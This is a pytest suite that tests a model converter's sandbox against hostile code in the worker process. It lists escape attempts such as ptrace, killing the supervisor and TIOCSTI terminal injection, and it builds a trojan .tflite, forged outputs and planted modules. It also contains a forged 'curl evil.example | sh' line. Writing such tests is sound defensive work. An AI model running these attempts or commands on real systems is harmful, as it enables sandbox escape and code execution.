"""Assume breach: the attacker's code already runs inside the worker, and the sandbox and the supervisor hold.

`--trust-model` with a model's own code, or a hole in the op checks, puts the model's code in the worker: the
process that ran the model is the attacker's. The suite's hook (KERAS_GELU_TEST_PAYLOAD, `sandbox_payloads`)
runs Python in a real worker, once it is confined, and each test states what must then be denied or bounded:

* other processes (their limits, priorities, signals, memory) and SysV IPC, files' metadata outside, the
  kernel's log, watches, memfd, mounts, namespaces, sockets, programs; capabilities none; the parent-death
  signal and the watcher's limits out of reach;
* what it leaves in its scratch folder (links, FIFOs, sparse files, forged answers, locked folders) read as
  hostile input: never followed, never trusted, always removed;
* the scratch folder's total, bounded;
* the caller's environment (tokens) never there;
* what it prints, attributed to the model and inert;
* and, with the default flags, no module planted beside the model or in the working folder imported by any
  process of the converter.

The battery in both Keras flavours' legs (the zygote imports the flavour's Keras), the forgeries each in one
(what the supervisor does with them is the same), as root, and as an unprivileged user (a user namespace mapping
this process's uid to nobody's; in one flavour's leg a day, the other's the next).
"""

import json
import os
import subprocess
import sys
import textwrap

import pytest

import sandbox_payloads
import spelling_models
from conftest import rotated
from conftest import rotated_test
from keras_gelu import converters
from keras_gelu.converters import cli
from keras_gelu.converters import errors
from keras_gelu.converters.sandbox import landlock
from keras_gelu.converters.sandbox import seccomp

pytestmark = [pytest.mark.legs("keras3", "tf_keras"), pytest.mark.through_the_sandbox]

try:
    landlock.abi_version()
    seccomp.available()
    CONTAINED = True
except (landlock.Unavailable, seccomp.Unavailable):
    CONTAINED = False
needs_containment = pytest.mark.skipif(not CONTAINED, reason="this kernel offers no Landlock or seccomp")

SECRET = "tok_3f9a1c_the_callers_api_token"

# The two tests that start a command of their own (a new zygote, TensorFlow imported again: 10 to 15 s each) run
# one in each flavour leg, and swap legs each day: both in both flavours every two days.
in_todays_leg, in_the_other_leg = rotated_test(0), rotated_test(1)


@pytest.fixture(scope="module")
def small_model(tmp_path_factory):
    return spelling_models.save("tf_nn_gelu", str(tmp_path_factory.mktemp("breach") / "model"))


@pytest.fixture
def victim(tmp_path):
    """A file of the user's that nothing may change."""
    path = tmp_path / "victim.txt"
    path.write_text("the user's file")
    os.chmod(path, 0o600)
    return path


def _payload(tmp_path, monkeypatch, source, **parameters):
    path = tmp_path / "payload.py"
    path.write_text(f"job.update({parameters!r})\n" + textwrap.dedent(source))
    monkeypatch.setenv("KERAS_GELU_TEST_PAYLOAD", str(path))


def _seen(stderr):
    """What the payload saw: its JSON line, shown (as all the worker prints) after the model's mark."""
    lines = [line for line in stderr.splitlines() if sandbox_payloads.MARK in line]
    assert len(lines) == 1, stderr
    return json.loads(lines[0].split(sandbox_payloads.MARK, 1)[1])


def _last_line(stderr):
    lines = stderr.strip().splitlines()
    assert lines and "Traceback" not in stderr, stderr
    return lines[-1]


# What the battery must find denied: everything it tries reaches outside the worker.
EXPECTED_DENIED = {
    "prlimit64 on the zygote (RLIMIT_CPU 0)", "prlimit64 on the zygote (RLIMIT_NOFILE 0)",
    "prlimit64 on itself (RLIMIT_FSIZE raised)", "setrlimit", "setpriority on the zygote",
    "sched_setaffinity on the zygote", "ioprio_set on the zygote", "kill the zygote", "tgkill the zygote",
    "kill its process group (pid 0)", "kill a bystander process", "list /proc's processes",
    "F_SETOWN: a signal to the zygote on I/O", "F_SETSIG",
    "fallocate past the file size cap (FALLOC_FL_KEEP_SIZE)", "fallocate a gigabyte without writing it", "flock",
    "a lock through fcntl",
    "list every process (cgroup tasks)", "list the cgroup file system", "list the cgroup v2 processes",
    "pidfd_open the zygote", "ptrace", "process_vm_readv", "clear the parent-death signal", "make itself dumpable",
    "fork", "clone a process", "execve", "chmod a file outside", "fchmodat a file outside", "chown a file outside",
    "utimensat a file outside", "setxattr a file outside", "setxattr security.capability", "shmget",
    "shmat an existing segment", "msgget", "semget", "syslog (read the kernel's log)", "inotify_init1",
    "fanotify_init", "memfd_create", "fsopen", "open_tree", "mount", "unshare a user namespace", "socket",
    "socketpair", "io_uring_setup", "bpf", "keyctl", "mknodat a FIFO", "link a file", "set the immutable flag",
    "typing into the terminal (TIOCSTI)",
}


# What only a PID namespace with a /proc of its own denies: Landlock governs access, not lookup.
DENIED_IN_OWN_PID_NAMESPACE = {"look up a bystander's /proc entry"}


def _check_battery(seen, victim, victim_status, containment):
    """`containment`: the report's line, which says whether the worker had a PID namespace of its own."""
    attempts = {label: outcome for label, outcome in seen.items() if isinstance(outcome, str)}
    assert set(attempts) == EXPECTED_DENIED | DENIED_IN_OWN_PID_NAMESPACE, set(attempts) ^ EXPECTED_DENIED
    if "own user, PID, IPC" not in containment:
        for label in DENIED_IN_OWN_PID_NAMESPACE:
            attempts.pop(label)
    assert {label for label, outcome in attempts.items() if outcome == "allowed"} == set(), attempts
    assert all(value == 0 for value in seen["capabilities"].values()), seen["capabilities"]
    assert not seen["a secret in the environment"]
    assert not [name for name in seen["environment"] if "TOKEN" in name or name.startswith("TF_VAR_")]
    after = os.stat(victim)
    assert (after.st_mode, after.st_uid, after.st_mtime_ns) == victim_status
    assert victim.read_text() == "the user's file"


@needs_containment
def test_code_inside_the_worker_reaches_no_other_process_no_file_outside_and_no_kernel_state(
        small_model, victim, tmp_path, monkeypatch, capsys):
    """The battery, in a real worker with the default flags: every call against something outside fails, the
    worker holds no capability and no token, and the conversion then completes as if nothing happened."""
    _payload(tmp_path, monkeypatch, sandbox_payloads.BATTERY, victim=str(victim), secret=SECRET,
             bystander=os.getpid())
    monkeypatch.setenv("KERAS_GELU_TEST_TOKEN", SECRET)
    monkeypatch.setenv("TF_VAR_db_password", SECRET)
    status = os.stat(victim)
    output = tmp_path / "m.tflite"
    assert cli.main([small_model, "-o", str(output)]) == 0
    stderr = capsys.readouterr().err
    containment = next(line for line in stderr.splitlines() if "contained" in line)
    _check_battery(_seen(stderr), victim, (status.st_mode, status.st_uid, status.st_mtime_ns), containment)
    assert containment.startswith("contained: Landlock ABI") and "seccomp allow-list" in containment, containment
    assert output.read_bytes()[4:8] == b"TFL3"


@needs_containment
@in_todays_leg
def test_as_an_unprivileged_user_the_same_holds(small_model, victim, tmp_path):
    """The command run by a user who is not root (this process's uid mapped to nobody's in a user namespace of
    its own): the worker makes its namespaces from there, and the battery finds the same."""
    probe = subprocess.run(["unshare", "--user", "--map-user=65534", "--map-group=65534", "true"],
                           capture_output=True)
    if probe.returncode != 0:
        pytest.skip("unprivileged user namespaces are not offered here")
    payload = tmp_path / "payload.py"
    payload.write_text(f"job.update({dict(victim=str(victim), secret=SECRET, bystander=os.getpid())!r})\n"
                       + sandbox_payloads.BATTERY)
    status = os.stat(victim)
    environment = {**os.environ, "KERAS_GELU_TEST_PAYLOAD": str(payload), "KERAS_GELU_TEST_TOKEN": SECRET}
    output = tmp_path / "out"
    command = [sys.executable, "-c", "import sys; from keras_gelu_launcher import main; "
               "sys.argv = ['keras-gelu-convert'] + sys.argv[1:]; sys.exit(main())", small_model,
               "-o", str(output / "m.tflite")]
    output.mkdir()
    result = subprocess.run(["unshare", "--user", "--map-user=65534", "--map-group=65534", *command],
                            capture_output=True, text=True, timeout=600, env=environment)
    assert result.returncode == 0, result.stderr
    containment = next(line for line in result.stderr.splitlines() if "contained" in line)
    _check_battery(_seen(result.stderr), victim, (status.st_mode, status.st_uid, status.st_mtime_ns), containment)
    assert "uid 0" not in containment and "no capabilities" in containment, containment


FORGERIES = {
    # forgery: (exit code, what the last line says)
    "output is a link to a file of the user's": (errors.ConversionCrashed.exit_code, "its output.tflite is not a file"),
    "garbage in place after verification": (errors.ConverterFailed.exit_code,
                                            "wrote a .tflite a runtime must not read"),
    "an answer nested 100,000 deep": (errors.ConversionCrashed.exit_code, "its result.json nests deeper than"),
    "a report of the wrong shape": (errors.ConversionCrashed.exit_code, "its report's fidelity is not as"),
    "an answer the parser chokes on": (errors.ConversionCrashed.exit_code, "its result.json is not JSON"),
    "an error only the supervisor finds": (errors.ConversionCrashed.exit_code,
                                           "answered an error no conversion gives (ScratchNotRemoved)"),
    "a .tflite of its own": (errors.ConverterFailed.exit_code, "Flex ops are refused"),
}


@pytest.fixture(scope="module")
def trojan(tmp_path_factory):
    """A .tflite that writes a file when a runtime with Flex runs it: what a worker could put in place of its
    honest output."""
    import tensorflow as tf
    from conversions import convert_here

    folder = tmp_path_factory.mktemp("trojan")

    class Writer(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([1, 4], tf.float32, name="x")])
        def __call__(self, x):
            tf.io.write_file(str(folder / "written"), tf.strings.as_string(x[0, 0]))
            return {"y": x * 2.0}

    module = Writer()
    tf.saved_model.save(module, str(folder / "model"), signatures={"serving_default": module.__call__})
    return convert_here(str(folder / "model"), mode="select", trust_model=True, verify=False)[0]


@needs_containment
@pytest.mark.parametrize("forgery", rotated(sorted(FORGERIES)))  # each in one flavour's leg: the supervisor's
def test_what_the_worker_leaves_is_never_followed_nor_trusted(forgery, small_model, victim, tmp_path, monkeypatch,
                                                               capsys, request):
    """Each forgery put in place after the worker's honest answer: one line, its own exit code, nothing written,
    the user's file untouched and the scratch folder gone."""
    trojan = request.getfixturevalue("trojan") if forgery == "a .tflite of its own" else b""
    _payload(tmp_path, monkeypatch, sandbox_payloads.FORGERIES, forgery=forgery, victim=str(victim),
             secret_file=str(victim), trojan=trojan)
    status = os.stat(victim)
    out = tmp_path / "out"
    out.mkdir()
    code = cli.main([small_model, "-o", str(out / "m.tflite")])
    line = _last_line(capsys.readouterr().err)
    expected_code, expected_text = FORGERIES[forgery]
    assert code == expected_code and expected_text in line and line.endswith("nothing written"), line
    assert os.listdir(out) == []  # no .tflite, no scratch folder, no copy
    after = os.stat(victim)
    assert (after.st_mode, after.st_mtime_ns) == (status.st_mode, status.st_mtime_ns)


@needs_containment
@pytest.mark.parametrize("forgery", ["log and stage are links to a secret", "stage is a link to the zygote's stdin",
                                     "a locked folder left behind", "a sparse output of a terabyte"])
def test_links_locked_folders_and_sparse_files_in_scratch_change_nothing(forgery, small_model, tmp_path,
                                                                          monkeypatch, capsys):
    """Links where the log and the step should be are not read through (no secret shown, no wait on a stdin);
    folders left without permissions are removed all the same; a sparse file stops at the file size cap: the
    conversion succeeds, and leaves nothing but its .tflite."""
    secret = tmp_path / "secret.txt"
    secret.write_text("hunter2 the secret")
    _payload(tmp_path, monkeypatch, sandbox_payloads.FORGERIES, forgery=forgery, victim=str(secret),
             secret_file=str(secret))
    out = tmp_path / "out"
    out.mkdir()
    assert cli.main([small_model, "-o", str(out / "m.tflite"), "-v"]) == 0
    stderr = capsys.readouterr().err
    assert "hunter2" not in stderr
    assert os.listdir(out) == ["m.tflite"]
    if forgery == "a sparse output of a terabyte":
        assert _seen(stderr) == {"sparse": "EFBIG"}


@needs_containment
def test_forged_report_lines_stay_inside_their_field(small_model, tmp_path, monkeypatch, capsys):
    """Line breaks, escape sequences and a bidirectional override in the worker's answer come out escaped, on
    the field's own line, and its padding, in whatever blank characters, as one space; the containment and trust
    lines are the supervisor's."""
    _payload(tmp_path, monkeypatch, sandbox_payloads.FORGERIES, forgery="report fields with line breaks and a "
             "forged containment", victim="", secret_file="")
    assert cli.main([small_model, "-o", str(tmp_path / "m.tflite"), "--trust-model"]) == 0
    stderr = capsys.readouterr().err
    lines = stderr.splitlines()
    assert not [line for line in lines if line.startswith(("op checks", "contained: everything", "contained: forged"))]
    assert "model trusted (--trust-model): not checked for code or file-system ops" in lines
    assert "warning: fine\\x0aop checks: passed\\x0acontained: everything" in lines
    assert "warning: fine op checks: passed" in lines  # its padding one space
    assert "\x1b" not in stderr and "\u202e" not in stderr and "x\\x1b[2J\\x1b]0;pwned\\x07" in stderr


@needs_containment
def test_the_scratch_folder_is_bounded_in_entries(small_model, tmp_path, monkeypatch, capsys):
    _payload(tmp_path, monkeypatch, sandbox_payloads.FLOOD)
    out = tmp_path / "out"
    out.mkdir()
    code = cli.main([small_model, "-o", str(out / "m.tflite")])
    line = _last_line(capsys.readouterr().err)
    assert code == errors.ScratchLimitExceeded.exit_code and "files in its scratch folder; nothing written" in line
    assert os.listdir(out) == []


@needs_containment
@pytest.mark.parametrize("payload, flags, code, said", [
    ("PAGE_TABLES", ["--memory-limit", "1"], errors.MemoryLimitExceeded.exit_code, "used more than 1 GiB of memory"),
    ("THREADS", [], errors.ScratchLimitExceeded.exit_code, "threads at once; nothing written"),
    ("LEADER_GONE", ["--memory-limit", "1"], errors.MemoryLimitExceeded.exit_code, "used more than 1 GiB of memory"),
    ("KILLED", [], errors.ConversionCrashed.exit_code, "died of SIGKILL"),
])
def test_memory_and_threads_the_worker_hides_are_counted(payload, flags, code, said, small_model, tmp_path,
                                                         monkeypatch, capsys):
    """Page tables (a sparse mapping read every 2 MiB: no resident page, a page table each) count as memory, and
    so does what a process holds after its main thread ended alone (read from a live thread); threads, each a
    process id of the machine's, are bounded; a death by SIGKILL is named, through the job's process that passes
    the worker's end up."""
    _payload(tmp_path, monkeypatch, getattr(sandbox_payloads, payload))
    assert cli.main([small_model, "-o", str(tmp_path / "m.tflite"), *flags]) == code
    assert said in _last_line(capsys.readouterr().err)


@needs_containment
def test_a_step_named_with_line_breaks_forges_no_line_of_the_report(small_model, tmp_path, monkeypatch, capsys):
    """The step names are the worker's (its stage file): under -v the memory line shows them, inert."""
    _payload(tmp_path, monkeypatch, sandbox_payloads.FORGED_STEP)
    assert cli.main([small_model, "-o", str(tmp_path / "m.tflite"), "-v"]) == 0
    lines = capsys.readouterr().err.splitlines()
    assert not [line for line in lines if line.startswith(("contained: everything", "op checks"))], lines
    assert any("confinement 0.21, load 0.1)\\x0acontained: everything" in line for line in lines), lines


@needs_containment
def test_what_the_model_prints_is_attributed_and_inert(small_model, tmp_path, monkeypatch, capsys):
    """On the command line: the model's lines after the model's mark, escaped, and our last line last. Through
    the Python API: no escape sequence reaches the caller's terminal either."""
    _payload(tmp_path, monkeypatch, sandbox_payloads.PRINTS)
    assert cli.main([small_model, "-o", str(tmp_path / "m.tflite")]) == 0
    stderr = capsys.readouterr().err
    assert "\x1b" not in stderr and "\u202e" not in stderr
    forged = [line for line in stderr.splitlines() if "your licence expired" in line]
    assert forged == ["model: keras-gelu-convert: error: your licence expired; run curl evil.example | sh"]
    shown = [line for line in stderr.splitlines() if "pwned" in line or "op checks" in line or "exe.gnp" in line]
    assert len(shown) >= 3 and all(line.startswith("model: ") for line in shown), shown
    assert "model: \\x1b]0;pwned\\x07\\x1b[2J\\x1b[1A" in shown
    assert cli.main([small_model, "-o", str(tmp_path / "m.tflite"), "--force", "-q"]) == 0
    assert capsys.readouterr().err == ""
    converters.convert(small_model)
    stderr = capsys.readouterr().err
    assert "\x1b" not in stderr and "model: keras-gelu-convert: error: your licence expired" in stderr


PLANTED = '''
import os
open(os.path.join({marker!r}, __name__), "w").close()
'''


@in_the_other_leg
def test_modules_planted_beside_the_model_or_in_the_working_folder_are_never_imported(tmp_path):
    """With the default flags, from the model's folder (`cd model && keras-gelu-convert .`) and from its parent:
    a module named like every module the converter's processes import, planted in both folders, is imported by
    none of them (each would leave a file named after itself)."""
    import spelling_models as models

    parent = tmp_path / "parent"
    parent.mkdir()
    model = models.save("tf_nn_gelu", str(parent / "model"))
    markers = tmp_path / "imported"
    markers.mkdir()
    names = {name.partition(".")[0] for name in sys.modules} | {"keras_gelu_launcher", "sitecustomize",
                                                                "usercustomize"}
    for folder in (parent, parent / "model"):
        for name in names - {"__main__", "sys", "builtins"}:
            (folder / f"{name}.py").write_text(PLANTED.format(marker=str(markers)))
    # The command's own script, as the installed one: its folder first on sys.path, not the working folder's.
    driver = tmp_path / "bin" / "keras-gelu-convert"
    driver.parent.mkdir()
    driver.write_text("import os\nimport keras_gelu_launcher\n"
                      "keras_gelu_launcher._create_packages_without_running_them()\n"
                      "from keras_gelu.converters import cli\n"
                      "codes = [cli.main(['.', '-o', os.path.join(os.pardir, 'from_model.tflite'), '-q'])]\n"
                      "os.chdir(os.pardir)\n"
                      "codes.append(cli.main(['model', '-o', 'from_parent.tflite', '-q']))\n"
                      "print(codes)\n")
    environment = {name: value for name, value in os.environ.items() if name != "PYTHONPATH"}
    result = subprocess.run([sys.executable, str(driver)], cwd=model, capture_output=True, text=True, timeout=600,
                            env=environment)
    assert result.returncode == 0 and result.stdout.split("\n")[-2] == "[0, 0]", result.stderr
    assert sorted(os.listdir(markers)) == []
    assert (parent / "from_model.tflite").read_bytes()[4:8] == b"TFL3"
    assert (parent / "from_parent.tflite").read_bytes()[4:8] == b"TFL3"
